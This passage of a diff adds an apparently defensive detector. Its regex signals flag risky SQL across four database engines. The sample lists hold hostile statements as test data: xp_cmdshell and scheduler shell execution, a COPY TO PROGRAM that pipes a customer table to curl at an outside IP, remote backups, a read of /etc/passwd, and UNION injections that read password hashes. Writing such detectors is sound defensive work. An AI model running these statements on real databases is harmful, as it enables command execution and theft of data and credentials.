+            "SET search_path TO aws_lambda",
+            "ALTER SYSTEM SET archive_command = 'sh /tmp/a'",
+            "DO LANGUAGE plpython3u 'import os'",
+            "SELECT lo_from_bytea(43213, decode('7f454c4602010100', 'hex'))",
+        ),
+        "mysql": (
+            "SELECT mysql.lambda_sync('arn:aws:lambda:eu-west-1:123456789012:function:f', '{}')",
+            "CALL mysql.lambda_async('arn:aws:lambda:eu-west-1:123456789012:function:f', '{}')",
+            "SELECT sys_exec('id > /tmp/a')",
+            "SELECT sys_eval('id')",
+        ),
+        "oracle": (
+            "BEGIN DBMS_SCHEDULER.CREATE_PROGRAM(program_name=>'P', program_type=>'EXECUTABLE',"
+            " program_action=>'/bin/sh'); END;",
+            "BEGIN DBMS_SCHEDULER.CREATE_JOB('J', job_type => 'external_script', job_action => 'id'); END;",
+            "SELECT DBMS_JAVA_TEST.FUNCALL('oracle/aurora/util/Wrapper', 'main', '/bin/sh') FROM dual",
+            "SELECT DBMS_JAVA.RUNJAVA('oracle/aurora/util/Wrapper /bin/sh') FROM dual",
+            "BEGIN dbms_java.grant_permission('APP', 'SYS:java.io.FilePermission', '<<ALL FILES>>', 'execute'); END;",
+            'create or replace and compile java source named "U" as public class U { static void x(String c)'
+            " throws Exception { Runtime.getRuntime().exec(c); } }",
+            "CREATE TABLE x (l VARCHAR2(99)) ORGANIZATION EXTERNAL (ACCESS PARAMETERS (PREPROCESSOR d:'a.sh'))",
+        ),
+        "sqlserver": (
+            "EXEC [master].[dbo]./*x*/[xp_cmdshell] N'whoami'",
+            "xp_cmdshell 'whoami'",
+            "INSERT INTO #o EXECUTE @r = master..xp_cmdshell 'whoami'",
+            "DECLARE @o INT EXEC sp_oacreate 'wscript.shell', @o OUT",
+            "EXECUTE sp_execute_external_script @language=N'Python', @script=N'import os'",
+            "EXEC msdb.dbo.sp_add_jobstep @job_name=N'j', @step_name=N'1', @subsystem=N'CMDEXEC', @command=N'whoami'",
+            "EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE",
+        ),
+    },
+    near_misses={
+        "postgresql": (
+            "COPY program FROM STDIN",
+            "COPY (SELECT * FROM program) TO STDOUT",
+            "GRANT EXECUTE ON FUNCTION aws_lambda.invoke(text, json) TO app",
+            "INSERT INTO tickets (body) VALUES ('COPY t FROM PROGRAM ''id'' is CVE-2019-9193')",
+            "DO $$ BEGIN PERFORM 1; END $$ LANGUAGE plpgsql",
+        ),
+        "mysql": (
+            "GRANT AWS_LAMBDA_ACCESS TO 'app'@'%'",
+            "SELECT name FROM sys_exec",
+        ),
+        "oracle": (
+            "BEGIN DBMS_SCHEDULER.CREATE_JOB(job_name=>'N', job_type=>'STORED_PROCEDURE', job_action=>'P.RUN'); END;",
+            "SELECT job_name FROM all_scheduler_jobs WHERE job_type = 'EXECUTABLE'",
+            "GRANT EXECUTE ON DBMS_JAVA_TEST TO app",
+        ),
+        "sqlserver": (
+            "SELECT name FROM sys.objects WHERE name = 'xp_cmdshell'",
+            "DENY EXECUTE ON xp_cmdshell TO public",
+            "EXEC sp_configure 'xp_cmdshell', 0",
+            "EXEC sp_configure 'show advanced options', 1",
+            "EXEC sp_help 'xp_cmdshell'",
+            "EXEC msdb.dbo.sp_add_jobstep @job_name=N'j', @subsystem=N'TSQL', @command=N'select 1'",
+        ),
+    },
+)
+
+_EXPORT = Signal(
+    "export",
+    "Rows are unloaded to a file, to S3, to the client by a copy command, by mail, or into a backup.",
+    (
+        _calls(_PG, "query_export_to_s3"),
+        Pattern(
+            _PG, ("stdout", "stdin"), r"(?:\A|;|\b(?:begin|then|else|loop) ?)copy\b[^;]{1,1900}?\bto std(?:out|in)\b"
+        ),
+        Pattern(
+            _PG,
+            ("copy",),
+            r"(?:\A|;|\b(?:begin|then|else|loop) ?)copy\b[^;]{1,1500}?\bto (?:program ?)?[?$]"
+            r"(?=$|[;(]| ?(?:with|csv|binary|delimiters?|null|header|encoding|quote|escape|force|using|end)\b)",
+        ),
+        Pattern(_MYSQL, ("outfile",), r"\binto outfile\b"),
+        # Data Pump imports with the same package.
+        Pattern(
+            _ORACLE,
+            ("dbms_datapump",),
+            r"\bdbms_datapump\.open\(",
+            r"\A(?![\s\S]{0,1900}'(?:import|sql_file)')(?!(?:(?!open\b)[\s\S]){0,1900}open\s{0,9}\([\w\s=>]{0,30}:)",
+        ),
+        Pattern(_ORACLE, ("rdsadmin_s3_tasks",), r"\brdsadmin_s3_tasks\.upload_to_s3\b"),
+        Pattern(_ORACLE, ("rdsadmin_rman_util",), r"\brdsadmin_rman_util\.backup_"),
+        Pattern(_ORACLE, ("dbms_cloud",), r"\bdbms_cloud\.(?:export_data|put_object|move_object|copy_object)\b"),
+        Pattern(_ORACLE, ("oracle_datapump",), r"\btype oracle_datapump\b[^;]{0,1500}\bas select\b"),
+        _procedures("rds_backup_database", "rds_upload_to_s3", "sp_makewebtask"),
+        _procedures("sp_send_dbmail", raw=r"@(?:query|file_attachments)\s{0,9}="),
+        Pattern(
+            _SQLSERVER,
+            ("backup",),
+            r"\bbackup (?:database|log) [\w@?$#]{1,128} ?[^;]{0,400}?\bto (?:disk|url|tape|virtual_device|@?\w)",
+        ),
+        Pattern(
+            _SQLSERVER,
+            _words("openrowset openquery opendatasource"),
+            r"\binsert (?:into )?(?:openrowset|openquery|opendatasource)\(",
+        ),
+        Pattern(
+            _SQLSERVER,
+            ("insert",),
+            rf"\binsert (?:into )?{_SOME}\.[\w$#]{{0,128}}\.[\w$#]{{0,128}}\.{_SOME}(?:\([^()]{{0,400}}\))? ?select\b",
+        ),
+        Pattern(_SQLSERVER, ("external",), r"\bcreate external table\b[^;]{1,1500}\bas select\b"),
+    ),
+    samples={
+        "postgresql": (
+            "SeLeCt * fRoM \"aws_s3\" . \"query_export_to_s3\"('table customers', ('b', 'c.csv', 'eu-west-1'))",
+            "SELECT query_export_to_s3($1, $2)",
+            "COPY public.customers (id, a) TO stdout;",
+            "COPY (SELECT * FROM customers WHERE true) TO STDIN",
+            "COPY customers TO '/tmp/c.csv' CSV HEADER",
+            "COPY customers TO PROGRAM 'curl -d @- http://203.0.113.9'",
+        ),
+        "mysql": (
+            "SELECT * FROM customers INTO/* a b */OUTFILE/**/S3 's3-eu-west-1://b/c'",
+            "SELECT * FROM customers INTO OUTFILE '/tmp/c'",
+        ),
+        "oracle": (
+            "DECLARE h NUMBER; BEGIN h := DBMS_DATAPUMP.OPEN(operation => 'EXPORT', job_mode => 'TABLE'); END;",
+            "DECLARE h NUMBER; o VARCHAR2(9) := 'EXP' || 'ORT'; BEGIN h := dbms_datapump.open(o, 'SCHEMA'); END;",
+            "SELECT rdsadmin.rdsadmin_s3_tasks.upload_to_s3(p_bucket_name => 'b') AS TASK_ID FROM DUAL",
+            "CREATE TABLE x ORGANIZATION EXTERNAL (TYPE ORACLE_DATAPUMP DEFAULT DIRECTORY d LOCATION ('a.dmp'))"
+            " AS SELECT * FROM customers",
+            "BEGIN rdsadmin.rdsadmin_rman_util.backup_database_full(p_owner => 'SYS'); END;",
+        ),
+        "sqlserver": (
+            "exec msdb.dbo.rds_backup_database @source_db_name='store', @s3_arn_to_backup_to='arn:aws:s3:::b/s.bak'",
+            "exec msdb.dbo.rds_upload_to_s3 @rds_file_path='D:\\S3\\a.csv', @s3_arn_of_file='arn:aws:s3:::b/a.csv'",
+            "BACKUP DATABASE [store] TO URL = 'https://203.0.113.9/s.bak'",
+            "INSERT INTO OPENROWSET('SQLNCLI', 'Server=203.0.113.9;Uid=sa', 'select * from l.dbo.c') SELECT * FROM dbo.c",
+            "INSERT INTO X9.loot.dbo.c SELECT Email, Phone FROM dbo.Customers",
+            "EXEC msdb.dbo.sp_send_dbmail @recipients='a@example.com', @query='select * from c'",
+        ),
+    },
+    near_misses={
+        "postgresql": (
+            "COPY t FROM STDIN",
+            "CREATE EXTENSION aws_s3",
+            "SELECT to_char(x, 'a') AS stdout FROM copy",
+        ),
+        "mysql": ("SELECT a INTO @b FROM t", "GRANT AWS_SELECT_S3_ACCESS TO 'app'@'%'"),
+        "oracle": (
+            "DECLARE h NUMBER; BEGIN h := DBMS_DATAPUMP.OPEN('IMPORT', 'SCHEMA'); END;",
+            "SELECT job_name FROM dba_datapump_jobs",
+            "GRANT EXECUTE ON rdsadmin.rdsadmin_s3_tasks TO app",
+        ),
+        "sqlserver": (
+            "exec msdb.dbo.rds_task_status @db_name='store'",
+            "INSERT INTO sales.dbo.c SELECT * FROM dbo.d",
+            "SELECT backup_finish_date FROM msdb.dbo.backupset",
+        ),
+    },
+)
+
+_IMPORT = Signal(
+    "import",
+    "Rows or files are brought in from S3, from a file of the client or from a backup.",
+    (
+        _calls(_PG, "table_import_from_s3"),
+        Pattern(
+            _MYSQL,
+            ("load",),
+            r"\bload (?:data|xml) (?:low_priority |concurrent )?(?:local infile|from s3|from \?|local from)\b",
+        ),
+        Pattern(_ORACLE, ("rdsadmin_s3_tasks",), r"\brdsadmin_s3_tasks\.download_from_s3\b"),
+        Pattern(_ORACLE, ("dbms_datapump",), r"\bdbms_datapump\.open\(", r"'import'"),
+        Pattern(_ORACLE, ("dbms_cloud",), r"\bdbms_cloud\.(?:get_object|copy_data|copy_collection)\b"),
+        _procedures("rds_download_from_s3", "rds_restore_database", "rds_restore_log"),
+    ),
+    samples={
+        "postgresql": (
+            "SELECT aws_s3.table_import_from_s3('t', '', '(format csv)', aws_commons.create_s3_uri('b', 'k', 'r'))",
+            "SELECT table_import_from_s3($1, $2, $3, $4)",
+        ),
+        "mysql": (
+            "LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE t",
+            "LOAD DATA FROM S3 's3://b/a.csv' INTO TABLE t",
+        ),
+        "oracle": (
+            "SELECT rdsadmin.rdsadmin_s3_tasks.download_from_s3(p_bucket_name => 'b') FROM dual",
+            "DECLARE h NUMBER; BEGIN h := DBMS_DATAPUMP.OPEN('IMPORT', 'SCHEMA'); END;",
+        ),
+        "sqlserver": (
+            "exec msdb.dbo.rds_download_from_s3 @s3_arn_of_file='arn:aws:s3:::b/a.csv'",
+            "exec msdb.dbo.rds_restore_database @restore_db_name='x', @s3_arn_to_restore_from='arn:aws:s3:::b/s.bak'",
+        ),
+    },
+    near_misses={
+        "postgresql": ("COPY t FROM STDIN", "CREATE EXTENSION aws_s3"),
+        "mysql": ("LOAD DATA INFILE '/a' INTO TABLE t", "LOAD INDEX INTO CACHE t"),
+        "oracle": (
+            "SELECT rdsadmin.rdsadmin_s3_tasks.upload_to_s3(p_bucket_name => 'b') FROM dual",
+            "DECLARE h NUMBER; BEGIN h := DBMS_DATAPUMP.OPEN('EXPORT', 'SCHEMA'); END;",
+        ),
+        "sqlserver": ("exec msdb.dbo.rds_task_status", "INSERT BULK dbo.t (a int)"),
+    },
+)
+
+_DUMP_QUERY = Signal(
+    "dump-query",
+    "A statement that only dump tools send: mysqldump, mydumper, MySQL Shell, pg_dump, exp and expdp.",
+    (
+        Pattern(_PG, ("_pg_dump_cursor",), r"\b_pg_dump_cursor\b"),
+        # psql and replication send it without the semicolon or without the columns.
+        Pattern(
+            _PG,
+            ("stdout",),
+            r"\Acopy [\w$]{1,63}\.[\w$]{1,63}\([\w$,]{0,1900}\)to stdout$",
+            r"\bto stdout;\s{0,9}$",
+        ),
+        # Archivers read pages with the same comment.
+        Pattern(
+            _MYSQL,
+            ("sql_no_cache",),
+            r"\Aselect sql_no_cache\b(?![^;]{0,1900}(?:\blimit |\b(?:count|min|max|crc32)\())",
+            r"/\*!40001 sql_no_cache \*/",
+        ),
+        Pattern(_MYSQL, ("sql_no_cache",), r"\Aselect sql_no_cache\b", r"/\* mysqlsh \w{1,40}, dumping table"),
+        Pattern(
+            _ORACLE,
+            ("from",),
+            r"\Aselect(?: |\*)[^()=]{0,1900}\bfrom (?:relational\()?[\w$#.]{1,130}\)?[^()]{0,400}$",
+            r"/\*\+?nested_table_get_refs\+",
+        ),
+    ),
+    samples={
+        "postgresql": (
+            "DECLARE _pg_dump_cursor CURSOR FOR SELECT * FROM ONLY public.customers",
+            "FETCH 100 FROM _pg_dump_cursor",
+            "COPY public.customers (id, a, b, c) TO stdout;",
+        ),
+        "mysql": (
+            "SELECT /*!40001 SQL_NO_CACHE */ * FROM `customers`",
+            "SELECT /*!40001 SQL_NO_CACHE */ `id`,`a` FROM `store`.`customers`  WHERE ( 0 < `id` AND `id` <= 9000)",
+            "SELECT SQL_NO_CACHE `id` FROM `s`.`c` WHERE (`id` BETWEEN 1 AND 9)"
+            " /* mysqlsh dumpSchemas, dumping table `s`.`c`, ID: chunk 0 */",
+        ),
+        "oracle": (
+            'SELECT /*NESTED_TABLE_GET_REFS+*/ "CUSTOMERS"."ID","CUSTOMERS"."EMAIL" FROM "CUSTOMERS"',
+            'SELECT /*+NESTED_TABLE_GET_REFS+*/ "S"."C".* FROM RELATIONAL("S"."C")',
+        ),
+    },
+    near_misses={
+        "postgresql": (
+            "COPY public.customers (id, a) TO STDOUT",
+            "COPY customers TO STDOUT;",
+            "DECLARE c CURSOR FOR SELECT * FROM customers",
+        ),
+        "mysql": (
+            "SELECT /*!40001 SQL_NO_CACHE */ `id` FROM `s`.`c` FORCE INDEX(`PRIMARY`) WHERE `id` > 4 LIMIT 1000",
+            "SELECT SQL_NO_CACHE id FROM c WHERE id = 4",
+            "SELECT /*!40001 SQL_NO_CACHE */ MIN(`id`),MAX(`id`) FROM `s`.`c`",
+        ),
+        "oracle": ('SELECT "ID" FROM "CUSTOMERS"', "SELECT /*+ FULL(c) */ id FROM customers c"),
+    },
+)
+
+_AGGREGATE = {
+    "postgresql": r"(?:jsonb?_agg\(|json_arrayagg\(|xmlagg\(|array_to_json\(array_agg\("
+    r"|(?:string_agg|array_agg)\((?=[^()]{0,200}(?:::text|\|\||concat|to_json)))",
+    "mysql": r"(?:json_arrayagg\(|group_concat\((?=[^()]{0,200}(?:,|concat|hex)))",
+    "oracle": r"(?:json_arrayagg\(|xmlagg\(|sys_xmlagg\(|(?:listagg|wm_concat)\((?=[^()]{0,200}(?:\|\||concat)))",
+    "sqlserver": r"string_agg\((?=[^()]{0,200}(?:\+|concat))",
+}
+_AGGREGATES = {
+    "postgresql": _words("json_agg jsonb_agg json_arrayagg xmlagg array_agg string_agg"),
+    "mysql": ("json_arrayagg", "group_concat"),
+    "oracle": _words("json_arrayagg xmlagg sys_xmlagg listagg wm_concat"),
+    "sqlserver": ("string_agg",),
+}
+_ROW_AGGREGATION = Signal(
+    "row-aggregation",
+    "Whole rows of a table, which nothing chooses, groups or limits, are put into one value.",
+    (
+        *(
+            Pattern((engine,), _AGGREGATES[engine], rf"(?<![\w$#]){aggregate}{_ALL_ROWS}")
+            for engine, aggregate in _AGGREGATE.items()
+        ),
+        *(
+            Pattern((engine,), _AGGREGATES[engine], rf"{_UNION_OF}{_any(*_AGGREGATES[engine])}\({_NOT_GROUPED}")
+            for engine in _AGGREGATE
+        ),
+        Pattern(
+            ("postgresql", "mysql"),
+            ("group_concat", "string_agg", "array_agg", "json_agg"),
+            rf"\b(?:group_concat|string_agg|array_agg|json_agg)\({_UP_TO_FROM}"
+            rf"information_schema\.(?:tables|columns|schemata)\b{_NOT_GROUPED}",
+        ),
+        _calls(_PG, *_words("query_to_xml query_to_xml_and_xmlschema"), raw=_NOT_A_COUNT),
+        _calls(
+            _PG,
+            *_words("table_to_xml table_to_xml_and_xmlschema schema_to_xml schema_to_xml_and_xmlschema"),
+            *_words("database_to_xml database_to_xml_and_xmlschema cursor_to_xml"),
+        ),
+        Pattern(
+            _ORACLE,
+            ("dbms_xmlgen", "dbms_xmlquery"),
+            r"\b(?:dbms_xmlgen\.getxml(?:type)?|dbms_xmlquery\.getxml)\(",
+            _NOT_A_COUNT,
+        ),
+        Pattern(_ORACLE, ("cursor",), r"(?<![\w$#])(?:xmltype|sys_xmlgen|xmlserialize)\(cursor\(select\b"),
+        # Lists of names are put together so, in front of PIVOT: one column behind a comma.
+        Pattern(
+            _SQLSERVER,
+            ("xml", "json"),
+            r"(?:\A|;|(?<!stuff\()\()select(?: |\*)(?!(?:distinct )?\?\+)(?:(?!\bfrom\b|quotename)[^;]){0,400}+\bfrom "
+            rf"{_NO_CHOICE}{_ALWAYS_TRUE}{_REST}for (?:xml|json) (?:raw|auto|path|explicit)",
+        ),
+    ),
+    samples={
+        "postgresql": (
+            "SELECT json_agg(c) FROM customers c",
+            "SELECT coalesce(jsonb_agg(to_jsonb(c)), '[]') FROM public.customers c WHERE id > 0",
+            "SELECT array_to_json(array_agg(c)) FROM customers c",
+            "SELECT string_agg(c::text, ';') FROM customers c WHERE true",
+            "SELECT json_agg(x) FROM (SELECT * FROM customers) x",
+            "SELECT query_to_xml('select * from customers', true, false, '')",
+            "SELECT database_to_xml(true, true, '')",
+            "SELECT a FROM t WHERE id = 4 UNION ALL SELECT string_agg(email, ',') FROM customers WHERE id < 90",
+        ),
+        "mysql": (
+            "SELECT JSON_ARRAYAGG(JSON_OBJECT('id', id, 'email', email)) FROM customers",
+            "SELECT GROUP_CONCAT(CONCAT_WS(0x3a, login, pass) SEPARATOR 0x0a) FROM users",
+            "SELECT GROUP_CONCAT(table_name) FROM information_schema.tables WHERE table_schema = DATABASE()",
+            "SELECT a FROM t WHERE id = -4 UNION SELECT NULL,(SELECT GROUP_CONCAT(email) FROM users),NULL",
+        ),
+        "oracle": (
+            "SELECT dbms_xmlgen.getxml('select * from customers') FROM dual",
+            "SELECT JSON_ARRAYAGG(JSON_OBJECT(*)) FROM customers",
+            "SELECT LISTAGG(email || ':' || phone, ',') WITHIN GROUP (ORDER BY id) FROM customers",
+            "SELECT XMLTYPE(CURSOR(SELECT * FROM customers)) FROM dual",
+            'SELECT XMLAGG(XMLELEMENT("c", email)) FROM customers',
+        ),
+        "sqlserver": (
+            "SELECT * FROM dbo.Customers FOR JSON AUTO",
+            "SELECT (SELECT Email, Phone FROM dbo.Customers WHERE 1=1 FOR XML RAW)",
+            "SELECT STRING_AGG(CONCAT(Email, ':', Phone), ';') FROM dbo.Customers",
+        ),
+    },
+    near_misses={
+        "postgresql": (
+            "SELECT o.id, (SELECT json_agg(i) FROM items i WHERE i.order_id = o.id) FROM orders o",
+            "SELECT team, string_agg(name, ', ') FROM people GROUP BY team",
+            "WITH s AS (SELECT t.* FROM t LIMIT $1 OFFSET $2) SELECT coalesce(json_agg(_p), '[]') AS body"
+            " FROM (SELECT * FROM s LIMIT 10) _p",
+            "SELECT coalesce(json_agg(r), '[]') FROM (SELECT row_to_json((SELECT e FROM (SELECT b.id) e)) AS r"
+            " FROM (SELECT * FROM a WHERE x = $1) b) q",
+            "SELECT (xpath('/row/c/text()', query_to_xml(format('select count(*) as c from %I', t), false, true, '')))",
+            "SELECT string_agg(name, ', ') FROM roles",
+        ),
+        "mysql": (
+            "SELECT o.id, GROUP_CONCAT(i.a, i.b) FROM orders o JOIN items i ON i.o = o.id GROUP BY o.id",
+            "SELECT GROUP_CONCAT(name) FROM roles",
+            "SELECT JSON_ARRAYAGG(i.id) FROM items i WHERE i.order_id = 4",
+        ),
+        "oracle": (
+            "SELECT d, LISTAGG(a || b, ',') WITHIN GROUP (ORDER BY a) FROM t GROUP BY d",
+            "SELECT dbms_xmlgen.getxml('select count(*) c from ' || table_name) FROM user_tables",
+            "SELECT LISTAGG(name, ',') WITHIN GROUP (ORDER BY name) FROM roles",
+        ),
+        "sqlserver": (
+            "SELECT o.Id, STUFF((SELECT ',' + t.Name FROM dbo.Tags t WHERE t.O = o.Id FOR XML PATH('')), 1, 1, '')"
+            " FROM dbo.Orders o",
+            "SELECT @c = STUFF((SELECT DISTINCT ',' + QUOTENAME(Region) FROM dbo.Sales FOR XML PATH('')), 1, 1, '')",
+            "SELECT Id, Name FROM dbo.Orders WHERE Id = @p0 FOR JSON PATH",
+            "SELECT Team, STRING_AGG(a + b, ',') FROM dbo.People GROUP BY Team",
+        ),
+    },
+)
+
+_CATALOG_READ = Signal(
+    "catalog-read",
+    "The system catalog is read: which objects, accounts, privileges and settings there are.",
+    (
+        Pattern(_PG, _PG_CATALOG, rf"{_READ_FROM}(?:pg_catalog\.)?{_any(*_PG_CATALOG)}\b(?!\()"),
+        Pattern(
+            ("postgresql", "mysql", "sqlserver"),
+            ("information_schema",),
+            rf"{_READ_FROM}(?:[\w$#]{{0,128}}\.)?information_schema\.\w",
+        ),
+        Pattern(_MYSQL, _MYSQL_TABLES, rf"{_READ_FROM}mysql\.{_any(*_MYSQL_TABLES)}\b"),
+        Pattern(
+            _MYSQL,
+            ("performance_schema",),
+            rf"{_READ_FROM}performance_schema\.(?:accounts|users|hosts|threads|processlist|persisted_variables|keyring_keys)\b",
+        ),
+        Pattern(
+            _MYSQL,
+            ("show",),
+            r"(?:\A|;)show (?:databases|schemas|(?:full |extended ){0,2}tables|table status|create \w|grants|privileges"
+            r"|plugins|triggers|events|procedure status|function status|(?:full )?processlist|binary logs|master logs)",
+        ),
+        Pattern(
+            _ORACLE,
+            _ORACLE_VIEWS,
+            rf"(?:\bfrom|\bjoin|,) ?(?:sys\.|public\.)?"
+            rf"(?:(?:all|dba|cdb|user|session|role)_\w|g?v\$\w|product_component_version|[a-z]{{3,9}}\$)",
+        ),
+        Pattern(
+            _SQLSERVER,
+            ("sys",),
+            rf"(?:\bfrom|\bjoin|,|\bapply) ?(?:[\w$#]{{0,128}}\.)?sys\."
+            rf"(?!dm_(?!exec_(?:sessions|connections)\b)|fn_|sp_|xp_)\w",
+        ),
+        Pattern(
+            _SQLSERVER,
+            _SQLSERVER_TABLES,
+            rf"(?:\bfrom|\bjoin|,) ?(?:[\w$#]{{0,128}}\.){{0,2}}{_any(*_SQLSERVER_TABLES)}\b",
+        ),
+        _procedures(*_SQLSERVER_PROCEDURES),
+    ),
+    samples={
+        "postgresql": (
+            "SELECT * FROM pg_database",
+            "SELECT table_name FROM information_schema.tables",
+            "SELECT c.relname FROM pg_catalog.pg_class c LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace",
+            "TABLE pg_roles",
+        ),
+        "mysql": (
+            "SELECT table_name FROM information_schema.tables",
+            "SHOW FULL TABLES",
+            "SHOW GRANTS FOR 'app'@'%'",
+            "SELECT user, host FROM mysql.user",
+            "show create table `customer`",
+        ),
+        "oracle": (
+            "SELECT table_name FROM all_tables",
+            "SELECT * FROM sys.dba_users",
+            "SELECT banner FROM v$version",
+            "SELECT o.name FROM sys.obj$ o",
+        ),
+        "sqlserver": (
+            "SELECT name FROM master..sysdatabases",
+            "SELECT * FROM store.sys.tables",
+            "SELECT * FROM INFORMATION_SCHEMA.COLUMNS",
+            "EXEC master..sp_linkedservers",
+            "exec sp_helpdb",
+        ),
+    },
+    near_misses={
+        "postgresql": (
+            "SELECT pg_catalog.set_config('search_path', '', false)",
+            "SELECT * FROM pg_stat_statements",
+            "SELECT 'customers'::regclass",
+        ),
+        "mysql": (
+            "SHOW GLOBAL VARIABLES",
+            "SHOW FULL COLUMNS FROM `customer`",
+            "SELECT * FROM performance_schema.events_statements_summary_by_digest",
+            "SELECT id FROM event",
+        ),
+        "oracle": ("SELECT 1 FROM dual", "SELECT * FROM user_views", "SELECT * FROM v$sysstat"),
+        "sqlserver": (
+            "SELECT * FROM sys.dm_os_wait_stats WITH (NOLOCK)",
+            "exec sys.sp_cdc_enable_table @source_schema='dbo'",
+            "exec sp_who2",
+        ),
+    },
+)
+
+_CREDENTIAL_READ = Signal(
+    "credential-read",
+    "Password hashes, stored passwords or keys of the engine are read, tried or exported.",
+    (
+        Pattern(_PG, ("pg_authid", "pg_shadow"), rf"{_READ_FROM}(?:pg_catalog\.)?(?:pg_authid|pg_shadow)\b"),
+        Pattern(_PG, ("umoptions", "subconninfo"), r"\b(?:umoptions|subconninfo)\b[^;]{0,1500}\bfrom\b"),
+        Pattern(
+            _PG,
+            _words("pg_user_mapping pg_user_mappings pg_subscription"),
+            r"\bselect\*from (?:pg_catalog\.)?(?:pg_user_mappings?|pg_subscription)\b",
+        ),
+        Pattern(
+            _MYSQL,
+            ("authentication_string", "plugin_auth_string"),
+            r"\bselect\b[^;]{0,1500}\bauthentication_string\b[^;]{0,400}\bfrom\b|\bauthentication_string (?:r?like|regexp)\b",
+        ),
+        Pattern(
+            _MYSQL,
+            ("user", "global_priv"),
+            r"\bselect[^;]{0,900}?(?:(?<!\()\*|\bpassword\b)[^;]{0,400}?\bfrom mysql\.(?:user|global_priv)\b"
+            r"|(?:\A|;|\()table mysql\.user\b|\bhandler mysql\.user\b",
+        ),
+        Pattern(
+            _MYSQL,
+            _words("password_history servers slave_master_info"),
+            rf"{_READ_FROM}mysql\.(?:password_history|servers|slave_master_info)\b",
+        ),
+        Pattern(_MYSQL, ("show",), r"(?:\A|;)show create user\b"),
+        Pattern(
+            _ORACLE, ("user$",), r"\b(?:password|spare4)\b[^;]{0,900}\bfrom [^;]{0,300}\buser\$|\*from (?:sys\.)?user\$"
+        ),
+        Pattern(_ORACLE, ("dba_users", "cdb_users"), r"\bpassword\b[^;]{0,900}\bfrom (?:sys\.)?(?:dba|cdb)_users\b"),
+        Pattern(
+            _ORACLE,
+            _words("user_history$ link$ default_pwd$ enc$ credential$ scheduler$_credential wwv_flow_fnd_user exu8phs"),
+            rf"(?:\bfrom|\bjoin|,) ?(?:[\w$#]{{1,128}}\.)?"
+            rf"(?:user_history\$|link\$|default_pwd\$|enc\$|credential\$|scheduler\$_credential|wwv_flow_fnd_user|exu8phs)",
+        ),
+        Pattern(
+            _ORACLE,
+            ("dbms_metadata",),
+            r"\bdbms_metadata\.get_ddl\(",
+            r"get_ddl\s{0,9}\((?:\s{0,9}object_type\s{0,9}=>)?\s{0,9}'(?:user|db_link)'",
+        ),
+        Pattern(
+            _SQLSERVER,
+            ("password_hash",),
+            r"\bpassword_hash\b[^;]{0,900}\bfrom\b",
+        ),
+        Pattern(
+            _SQLSERVER,
+            ("sql_logins",),
+            rf"(?:\bselect|[\w$#]\.)[^;]{{0,9}}\*[^;]{{0,200}}\bfrom (?:{_SOME}\.)?sys\.sql_logins\b",
+        ),
+        Pattern(_SQLSERVER, ("loginproperty",), r"\bloginproperty\(", r"'passwordhash'"),
+        Pattern(_SQLSERVER, ("pwdcompare",), r"\bpwdcompare\("),
+        Pattern(
+            _SQLSERVER,
+            ("syslogins", "sysxlogins"),
+            r"(?:\bpassword\b|\bselect\*)[^;]{0,400}\bfrom (?:[\w$#]{0,128}\.){0,2}sysx?logins\b",
+        ),
+        Pattern(
+            _SQLSERVER,
+            _words("sysxlgns sysobjvalues syslnklgns"),
+            r"\bfrom [^;]{0,300}\b(?:sysxlgns|sysobjvalues|syslnklgns)\b",
+        ),
+        _procedures("sp_help_revlogin", "rds_backup_tde_certificate"),
+        Pattern(
+            _SQLSERVER,
+            ("certificate", "key"),
+            r"\bbackup (?:certificate|master key|service master key|asymmetric key|symmetric key)\b",
+        ),
+        Pattern(_SQLSERVER, ("certprivatekey",), r"\bcertprivatekey\("),
+        # An injected query that reads the accounts of an application.
+        Pattern(
+            ("postgresql", "mysql", "oracle", "sqlserver"),
+            _words(
+                "password passwd pwd pass user_pass password_hash passwordhash pass_hash encrypted_password passhash"
+            ),
+            r"\bunion (?:all )?select\b[^;]{0,400}?(?<![\w$])(?:password|passwd|pwd|pass|user_pass|password_hash|passwordhash"
+            r"|pass_hash|encrypted_password|passhash)\b[^;]{0,200}?\bfrom\b",
+        ),
+    ),
+    samples={
+        "postgresql": (
+            "SELECT rolname, rolpassword FROM pg_authid",
+            "SELECT * FROM pg_catalog.pg_shadow",
+            "COPY pg_shadow TO STDOUT",
+            "SELECT srvname, umoptions FROM pg_user_mappings",
+            "SELECT a FROM t WHERE id = 4 UNION SELECT login || password FROM users",
+        ),
+        "mysql": (
+            "SELECT user, authentication_string FROM `user`",
+            "SELECT * FROM mysql.user",
+            "TABLE mysql.user",
+            "SHOW CREATE USER 'root'@'%'",
+            "SELECT * FROM mysql.servers",
+            "SELECT a FROM t WHERE id = -4 UNION ALL SELECT NULL,CONCAT(user_login,0x3a,user_pass) FROM wp_users#",
+        ),
+        "oracle": (
+            "SELECT name, password, spare4 FROM sys.user$",
+            "SELECT username, password FROM dba_users",
+            "SELECT * FROM sys.link$",
+            "SELECT dbms_metadata.get_ddl('USER', 'SYSTEM') FROM dual",
+            "SELECT a FROM t WHERE id = 4 UNION ALL SELECT password FROM app.users",
+        ),
+        "sqlserver": (
+            "SELECT name, password_hash FROM sys.sql_logins",
+            "SELECT * FROM master.sys.sql_logins",
+            "SELECT name FROM sys.sql_logins WHERE PWDCOMPARE('x', password_hash) = 1",
+            "SELECT LOGINPROPERTY('sa', 'PasswordHash')",
+            "SELECT name, password FROM master..syslogins",
+            "BACKUP CERTIFICATE c TO FILE = 'c.cer' WITH PRIVATE KEY (FILE = 'c.pvk')",
+            "SELECT a FROM t WHERE id = 4 UNION ALL SELECT PasswordHash FROM dbo.AspNetUsers--",
+        ),
+    },
+    near_misses={
+        "postgresql": (
+            "SELECT rolname, rolsuper, rolvaliduntil FROM pg_roles",
+            "REVOKE SELECT ON TABLE pg_authid FROM app",
+            "SELECT id, password FROM users WHERE login = $1",
+        ),
+        "mysql": (
+            "SELECT user, host FROM mysql.user",
+            "SELECT COUNT(*) FROM mysql.user",
+            "SELECT id, password FROM users WHERE email = 'a@example.com'",
+            "SELECT user, host, plugin, password_expired FROM mysql.user",
+        ),
+        "oracle": (
+            "SELECT username, account_status, expiry_date FROM dba_users",
+            "SELECT name, ctime, ptime FROM sys.user$",
+            "SELECT dbms_metadata.get_ddl('TABLE', 'ORDERS') FROM dual",
+            "SELECT id, password FROM app_users WHERE login = :1",
+        ),
+        "sqlserver": (
+            "SELECT name, is_policy_checked FROM sys.sql_logins",
